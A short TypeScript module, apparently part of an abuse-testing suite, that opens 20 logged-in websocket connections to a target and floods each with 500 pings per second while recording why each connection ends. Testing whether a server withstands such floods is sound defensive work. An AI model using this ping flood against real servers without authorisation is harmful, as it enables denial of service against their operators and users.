/** Websocket pings, far more than a second's share, from those who are logged in. */
import { addressOf, keepOpen, type StartAttack, steadily } from '../attack.js'
import { enter } from '../intruder.js'

const SOCKETS = 20
const EACH = 10
const PER_SECOND = 500
const DATA = Buffer.alloc(125, 1)

let entered = 0

export const pings: StartAttack = (target, counts) =>
  keepOpen(SOCKETS, (n, ended) => {
    let flood = { stop: () => {} }
    const socket = enter(target, addressOf(7, Math.floor(n / EACH)), `pings-${process.pid}-${entered++}`, {
      online: socket => {
        flood = steadily(PER_SECOND, () => socket.readyState === socket.OPEN && socket.ping(DATA))
      },
      ended: why => {
        flood.stop()
        counts.add(why)
        ended()
      },
    })
    return { destroy: () => socket.terminate() }
  })
